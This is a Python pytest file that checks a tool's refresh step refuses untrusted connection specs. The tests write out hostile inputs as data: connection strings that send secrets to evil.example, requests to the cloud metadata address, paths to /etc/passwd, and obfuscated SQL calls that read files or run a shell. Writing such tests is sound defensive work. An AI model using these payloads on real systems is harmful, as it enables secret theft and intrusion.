"""Whom a refresh reaches: what the operator allows, and what a stranger's specs cannot make it do."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from sites import GOOD, Done, write

from infraviz.data import asking
from infraviz.data.engines import engine_of
from infraviz.data.permits import Permits, told
from infraviz.data.rows import DataError
from infraviz.data.secrets import Opened, opened
from infraviz.errors import UsageError
from infraviz.refresh import refresh
from infraviz.spec.site import ConnectionSpec

Run = Callable[..., Done]
HEAD = "sources: {log: {title: A log, kind: measured}}\nmetrics:\n"
SQL = HEAD + "  n: {label: N, source: log, data: {sql: select n from t, from: w}}\n"
PROM = HEAD + "  n: {label: N, source: log, data: {prometheus: up, from: w}}\n"
ENV = {"SECRET": "topsecret", "URL": "postgresql://u:p@db.example.org/x", "PATH_": "/etc/passwd"}


def specs(here: Path, connection: str, metrics: str = SQL) -> Path:
    return write(
        here / "specs",
        {**GOOD, "site.yaml": f"title: Site\nconnections: {{w: {connection}}}\n", "metrics/m.yaml": metrics},
    )


def said(here: Path, connection: str, metrics: str = SQL, allow: tuple[str, ...] = (), **more: Any) -> list[str]:
    """What a refresh says of the one metric, and nothing is connected to."""
    environ: Mapping[str, str] = {**ENV, **more.pop("environ", {})}
    report = refresh(specs(here, connection, metrics), environ=environ, allow=allow, **more)
    return [f"{error.message} ({error.hint})" for error in report.errors]


REFUSED = [
    (
        '{prometheus: "http://evil.example", token: "${SECRET}"}', PROM,
        "a secret would go to 'evil.example', which the specs name and you did not allow "
        "(--allow evil.example or INFRAVIZ_ALLOW allows it)",
    ),
    (
        '{prometheus: "http://evil.example", headers: {X-A: "${SECRET}"}}', PROM,
        "a secret would go to 'evil.example', which the specs name and you did not allow "
        "(--allow evil.example or INFRAVIZ_ALLOW allows it)",
    ),
    (
        '{prometheus: "http://${SECRET}.evil.example"}', PROM,
        "a secret would go to '***.evil.example', which the specs name and you did not allow "
        "(--allow ***.evil.example or INFRAVIZ_ALLOW allows it)",
    ),
    (
        '{sql: "postgresql://u:${SECRET}@evil.example/x"}', SQL,
        "a secret would go to 'evil.example', which the specs name and you did not allow "
        "(--allow evil.example or INFRAVIZ_ALLOW allows it)",
    ),
    (
        '{prometheus: "http://169.254.169.254/latest"}', PROM,
        "the host '169.254.169.254' is link-local, where machines keep what is nobody's business "
        "(--allow 169.254.169.254 or INFRAVIZ_ALLOW allows it)",
    ),
    (
        '{prometheus: "http://[::ffff:169.254.169.254]"}', PROM,
        "the host '::ffff:169.254.169.254' is link-local, where machines keep what is nobody's business "
        "(--allow ::ffff:169.254.169.254 or INFRAVIZ_ALLOW allows it)",
    ),
    (
        '{sql: "mysql://u@127.0.0.1/x?read_default_file=/etc/my.cnf"}', SQL,
        "the parameter 'read_default_file' cannot stand in an address in the specs "
        "(the whole address may come from the environment, as ${NAME})",
    ),
    (
        '{sql: "mysql://u@127.0.0.1/x?local_infile=1"}', SQL,
        "the parameter 'local_infile' cannot stand in an address in the specs "
        "(the whole address may come from the environment, as ${NAME})",
    ),
    (
        '{sql: "postgresql:///x?host=169.254.169.254"}', SQL,
        "the parameter 'host' cannot stand in an address in the specs "
        "(the whole address may come from the environment, as ${NAME})",
    ),
    (
        '{sql: "postgresql:///x?service=prod"}', SQL,
        "the parameter 'service' cannot stand in an address in the specs "
        "(the whole address may come from the environment, as ${NAME})",
    ),
    (
        '{sql: "duckdb:////etc/passwd"}', SQL,
        "an address for 'duckdb' cannot stand in the specs "
        "(the whole address may come from the environment, as ${NAME})",
    ),
    (
        '{sql: "sqlite:////etc/passwd"}', SQL,
        "the SQLite file lies outside the specs folder (a path from the environment, ${NAME}, may lie anywhere)",
    ),
    (
        '{sql: "sqlite:///${PATH_}"}', SQL,
        "the SQLite file lies outside the specs folder (a path from the environment, ${NAME}, may lie anywhere)",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("connection", "metrics", "line"), REFUSED)
def test_what_a_strangers_connection_cannot_do(here: Path, connection: str, metrics: str, line: str) -> None:
    assert said(here, connection, metrics) == [line]


def test_offline_opens_nothing(here: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    root = specs(here, '{sql: "sqlite:///data/a.db"}')
    (root / "data").mkdir()
    with sqlite3.connect(root / "data" / "a.db") as database:
        database.executescript("create table t (n); insert into t values (3)")
    line = "specs/metrics/m.yaml:3:65  metrics.n.data.from: offline: no connection is opened "
    line += "(without --offline and INFRAVIZ_OFFLINE it is)\n1 metric not fetched, what the lock has of it stays\n"
    assert run("refresh", "--offline") == Done(1, "", line)
    monkeypatch.setenv("INFRAVIZ_OFFLINE", "1")
    assert run("refresh") == Done(1, "", line)
    monkeypatch.setenv("INFRAVIZ_OFFLINE", "0")
    assert run("refresh").code == 0


def test_in_ci_a_host_must_be_allowed(here: Path) -> None:
    line = "the host 'localhost' is not allowed in CI (--allow localhost or INFRAVIZ_ALLOW allows it)"
    assert said(here, '{prometheus: "http://localhost:1"}', PROM, environ={"CI": "true"}) == [line]
    line = "the host 'db.example.org' is not allowed in CI (--allow db.example.org or INFRAVIZ_ALLOW allows it)"
    hidden = line.replace("db.example.org", "***")
    assert said(here, '{sql: "${URL}"}', environ={"CI": "true"}) == [hidden]


def test_only_what_is_listed_is_allowed(here: Path) -> None:
    line = "the host 'localhost' is not allowed (--allow localhost or INFRAVIZ_ALLOW allows it)"
    closed = ["the server cannot be read: the connection is refused ()"]
    address = '{prometheus: "http://localhost:1", token: "${SECRET}"}'
    assert said(here, address, PROM, allow=("db.example.org",)) == [line]
    assert said(here, address, PROM, allow=("localhost:2",)) == [line]
    assert said(here, address, PROM, environ={"INFRAVIZ_ALLOW": "db.example.org, localhost:2"}) == [line]
    assert said(here, address, PROM, allow=("localhost:1",), environ={"CI": "true"}) == closed
    assert said(here, address, PROM, environ={"CI": "1", "INFRAVIZ_ALLOW": "x LOCALHOST"}) == closed
    assert said(here, address, PROM, allow=("*",), environ={"CI": "1"}) == closed


def test_a_secret_may_go_to_this_machine(here: Path) -> None:
    closed = ["the server cannot be read: the connection is refused ()"]
    assert said(here, '{prometheus: "http://127.0.0.1:1", token: "${SECRET}"}', PROM) == closed
    line = said(here, '{prometheus: "http://127.0.0.1:1", token: "${SECRET}"}', PROM, environ={"CI": "true"})
    assert line == ["the host '127.0.0.1' is not allowed in CI (--allow 127.0.0.1 or INFRAVIZ_ALLOW allows it)"]


@pytest.mark.parametrize("text", ["", "a:b", "http://a", "a:0", "a:70000", "u@a", "[]:1"])
def test_what_is_no_host_is_wrong_usage(here: Path, run: Run, text: str) -> None:
    specs(here, '{sql: "sqlite:///data/a.db"}')
    assert run("refresh", "--allow", text) == Done(2, "", f"{text!r} is no host to allow (write HOST or HOST:PORT)\n")


def test_hosts_are_read_as_people_write_them() -> None:
    listed = told(["Db.Example.org.", "a:5432", "[::1]:1", "::1", "*"], False, {}).hosts
    assert listed == (("db.example.org", None), ("a", 5432), ("::1", 1), ("::1", None), ("*", None))
    assert told([], False, {"CI": "false"}) == Permits()
    assert told([], False, {"CI": "true", "INFRAVIZ_OFFLINE": "yes"}) == Permits(None, True, True)
    with pytest.raises(UsageError):
        told([], False, {"INFRAVIZ_ALLOW": "http://x"})


def opened_with(address: str, environ: Mapping[str, str]) -> Opened:
    return opened("w", ConnectionSpec.model_validate({"sql": address}), environ, 5)


def test_the_passwords_of_this_machines_user_are_not_sent(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGPASSWORD", "mine")
    given: dict[str, Any] = {}

    def connect(**arguments: Any) -> None:
        given.update(arguments)
        raise ConnectionRefusedError

    monkeypatch.setattr("psycopg.connect", connect)
    engine = engine_of(opened_with("postgresql://u@192.0.2.1/x", {}), here)
    with pytest.raises(ConnectionRefusedError):
        engine.raw_connection()
    assert (given["password"], given["passfile"]) == ("", "/dev/null")


def test_an_address_of_the_operators_may_hold_anything(here: Path) -> None:
    engine = engine_of(opened_with("${URL}", {"URL": "postgresql:///x?host=/run/db&service=x"}), here)
    assert engine.url.query == {"host": "/run/db", "service": "x"}
    spec, url = ConnectionSpec.model_validate({"sql": "${URL}"}), {"URL": "postgresql://a/x?host=a:1,10.0.0.9:2"}
    connection = opened("w", spec, url, 5, Permits((("a", None),), True))
    with pytest.raises(DataError) as caught:
        engine_of(connection, here)
    assert str(caught.value) == "the host '10.0.0.9' is not allowed"


REACHING = [
    "select pg_read_file('/etc/passwd')",
    "select \"pg_read_file\"('/etc/passwd')",
    "select pg_catalog.pg_read_binary_file/**/('/etc/passwd')",
    "select * from pg_ls_dir('/')",
    "select lo_import('/etc/passwd')",
    "select * from dblink('host=evil', 'select 1') as t(a int)",
    "select LOAD_FILE('/etc/passwd')",
    "select load_extension('/tmp/x')",
    "with x as (select set_config('a', 'b', false)) select * from x",
    "select U&\"pg_re\\0061d_file\"('/etc/passwd')",
    "select query_to_xml('select 1', true, true, '')",
]


@pytest.mark.parametrize("sql", REACHING)
def test_functions_that_reach_beyond_the_tables_are_refused(sql: str) -> None:
    with pytest.raises(DataError, match=r"reaches beyond the tables and cannot stand in it$"):
        asking.statement(sql)


@pytest.mark.parametrize(
    "sql", ["copy t to program 'sh'", "load data infile 'x'", "do $$ begin end $$", "explain select 1"]
)
def test_what_does_not_begin_with_select_is_refused(sql: str) -> None:
    with pytest.raises(DataError, match=r"^only a SELECT may be asked$"):
        asking.statement(sql)
